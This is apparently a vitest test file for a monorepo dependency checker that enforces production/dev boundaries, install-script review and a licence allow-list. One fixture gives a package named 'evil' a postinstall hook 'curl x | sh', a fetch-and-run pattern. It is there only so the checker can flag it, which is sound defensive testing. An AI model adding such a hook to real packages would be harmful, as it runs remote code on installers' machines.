import { afterAll, describe, expect, it } from "@effect/vitest"
import { spawnSync } from "node:child_process"
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { dirname, join, resolve } from "node:path"
import { fileURLToPath } from "node:url"

const repo = resolve(dirname(fileURLToPath(import.meta.url)), "../../..")
const script = join(repo, "tooling/scripts/check-deps.mjs")
const roots: string[] = []

const check = (root: string, ...flags: string[]) => {
  const r = spawnSync(process.execPath, [script, "--root", root, ...flags], { encoding: "utf8" })
  return { code: r.status, out: `${r.stdout}${r.stderr}` }
}

/** An installed package in the fixture's node_modules/.pnpm. */
const installed = (
  name: string,
  version: string,
  pkg: Record<string, unknown>,
  extra: Record<string, string> = {},
) => {
  const dir = `node_modules/.pnpm/${name.replace("/", "+")}@${version}/node_modules/${name}`
  return {
    [`${dir}/package.json`]: JSON.stringify({ name, version, ...pkg }),
    ...Object.fromEntries(Object.entries(extra).map(([k, v]) => [`${dir}/${k}`, v])),
  }
}

const LOCK = `lockfileVersion: '9.0'

importers:

  .:
    devDependencies:
      tsx:
        specifier: 4.0.0
        version: 4.0.0

  apps/app:
    dependencies:
      '@x/lib':
        specifier: workspace:*
        version: link:../../packages/lib
    devDependencies:
      vitest:
        specifier: 3.0.0
        version: 3.0.0

  packages/lib:
    dependencies:
      '@x/tool':
        specifier: workspace:*
        version: link:../../tooling/tool
      ok-native:
        specifier: 1.0.0
        version: 1.0.0

  tooling/tool:
    dependencies:
      hardhat:
        specifier: 2.0.0
        version: 2.0.0(typescript@5.0.0)

packages:

  hardhat@2.0.0:
    resolution: {integrity: sha512-x}

  ok-native@1.0.0:
    resolution: {integrity: sha512-x}

  'evil@1.0.0':
    resolution: {integrity: sha512-x}

  gpl@1.0.0:
    resolution: {integrity: sha512-x}

  tsx@4.0.0:
    resolution: {integrity: sha512-x}
    hasBin: true

snapshots:

  hardhat@2.0.0(typescript@5.0.0):
    dependencies:
      solc: 0.8.0

  ok-native@1.0.0: {}

  evil@1.0.0: {}

  gpl@1.0.0: {}

  tsx@4.0.0: {}
`

const tree = (files: Record<string, string>): string => {
  const root = mkdtempSync(join(tmpdir(), "inzi-deps-"))
  roots.push(root)
  for (const [p, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, p)), { recursive: true })
    writeFileSync(join(root, p), text)
  }
  return root
}

const clean = {
  "pnpm-lock.yaml": LOCK.replace(/ {6}'@x\/tool':\n.*\n.*\n/, ""),
  "pnpm-workspace.yaml":
    'packages: ["apps/*", "packages/*"]\nonlyBuiltDependencies: [ok-native]\nignoredBuiltDependencies:\n  - "other"\n',
  ...installed("ok-native", "1.0.0", { license: "MIT" }, { "binding.gyp": "{}" }),
  ...installed("tsx", "4.0.0", { license: "MIT" }),
  ...installed("hardhat", "2.0.0", { license: "MIT" }),
}

afterAll(() => {
  for (const r of roots) rmSync(r, { recursive: true, force: true })
})

describe("check-deps.mjs", () => {
  it("passes a clean tree: dev tooling only in devDependencies, reviewed builds, allowed licences", () => {
    const r = check(tree(clean))
    expect(r.out).toContain("check-deps: ok")
    expect(r.code).toBe(0)
  })

  it("names the path of dev tooling reached through a workspace package's production dependencies", () => {
    const r = check(tree({ ...clean, "pnpm-lock.yaml": LOCK }))
    expect(r.code).toBe(1)
    expect(r.out).toContain(
      "apps/app: dev tooling in production dependencies: apps/app → @x/lib → @x/tool → hardhat",
    )
    expect(r.out).toContain("apps/app → @x/lib → @x/tool → hardhat → solc")
    expect(r.out).toContain(
      "packages/lib: dev tooling in production dependencies: packages/lib → @x/tool → hardhat",
    )
    // tooling/* is not shipped, and the root's devDependencies are not production ones.
    expect(r.out).not.toMatch(/^ {2}tooling\/tool:/m)
    expect(r.out).not.toContain("→ tsx")
  })

  it("refuses @inzi/core in the production closure of @inzi/client, directly or through @inzi/wire", () => {
    const lock = clean["pnpm-lock.yaml"].replace(
      "\n  tooling/tool:",
      `
  packages/client:
    dependencies:
      '@inzi/wire':
        specifier: workspace:*
        version: link:../wire
    devDependencies:
      '@inzi/core':
        specifier: workspace:*
        version: link:../core

  packages/wire:
    dependencies:
      '@inzi/core':
        specifier: workspace:*
        version: link:../core

  packages/core: {}

  tooling/tool:`,
    )
    const r = check(tree({ ...clean, "pnpm-lock.yaml": lock }))
    expect(r.code).toBe(1)
    expect(r.out).toContain(
      "packages/client: @inzi/core must not be in its production dependencies: packages/client → @inzi/wire → @inzi/core",
    )
    expect(r.out).toContain("packages/wire: @inzi/core must not be in its production dependencies")
    // A dev dependency on core (the client's tests start a server) is not shipped.
    const devOnly = lock.replace(
      / {2}packages\/wire:\n {4}dependencies:\n(?: {6}.*\n){3}/,
      "  packages/wire: {}\n",
    )
    const ok = check(tree({ ...clean, "pnpm-lock.yaml": devOnly }))
    expect(ok.out).toContain("check-deps: ok")
    expect(ok.code).toBe(0)
  })

  it("refuses any production dependency of @inzi/core but effect and @noble/hashes (even @inzi/wire)", () => {
    const core = (deps: string) =>
      clean["pnpm-lock.yaml"].replace(
        "\n  tooling/tool:",
        `\n  packages/core:\n    dependencies:\n${deps}\n  tooling/tool:`,
      )
    const pure = core(
      "      effect:\n        specifier: 3.22.4\n        version: 3.22.4\n      '@noble/hashes':\n        specifier: 2.4.0\n        version: 2.4.0\n",
    )
    const ok = check(tree({ ...clean, "pnpm-lock.yaml": pure }))
    expect(ok.out).toContain("check-deps: ok")
    const wire = core(
      "      effect:\n        specifier: 3.22.4\n        version: 3.22.4\n      '@inzi/wire':\n        specifier: workspace:*\n        version: link:../wire\n",
    )
    const r = check(tree({ ...clean, "pnpm-lock.yaml": wire }))
    expect(r.code).toBe(1)
    expect(r.out).toContain("packages/core: may depend on effect and @noble/hashes only, not @inzi/wire")
  })

  it("refuses unreviewed install scripts (script or binding.gyp) and licences outside the allow-list", () => {
    const r = check(
      tree({
        ...clean,
        "pnpm-workspace.yaml": "packages: []\n",
        ...installed("evil", "1.0.0", { license: "MIT", scripts: { postinstall: "curl x | sh" } }),
        ...installed("gpl", "1.0.0", { license: "GPL-3.0-only" }),
      }),
    )
    expect(r.code).toBe(1)
    expect(r.out).toContain("evil@1.0.0: install scripts (postinstall) not reviewed")
    expect(r.out).toContain("ok-native@1.0.0: install scripts (binding.gyp) not reviewed")
    expect(r.out).toContain('gpl@1.0.0: licence "GPL-3.0-only" is not in the allow-list')
  })

  it("accepts an SPDX OR when one branch is allowed, refuses an AND with a term outside", () => {
    const ok = check(tree({ ...clean, ...installed("gpl", "1.0.0", { license: "(GPL-3.0-only OR MIT)" }) }))
    expect(ok.code, ok.out).toBe(0)
    const and = check(tree({ ...clean, ...installed("gpl", "1.0.0", { license: "(MIT AND GPL-2.0)" }) }))
    expect(and.code).toBe(1)
    const none = check(tree({ ...clean, ...installed("gpl", "1.0.0", {}) }))
    expect(none.out).toContain("gpl@1.0.0: no licence in its package.json")
  })

  it("the repository itself passes (the CLI ships neither hardhat nor tsx)", () => {
    const r = check(repo)
    expect(r.out).toContain("check-deps: ok")
    expect(r.code).toBe(0)
  })

  it("--deploy: the production installs an operator makes (pnpm deploy --prod) hold no dev tooling", () => {
    const r = check(repo, "--deploy")
    expect(r.out).toMatch(
      /production installs without dev tooling: apps\/cli \d+, apps\/server \d+, apps\/worker \d+ packages/,
    )
    expect(r.code, r.out).toBe(0)
  }, 300_000)
})
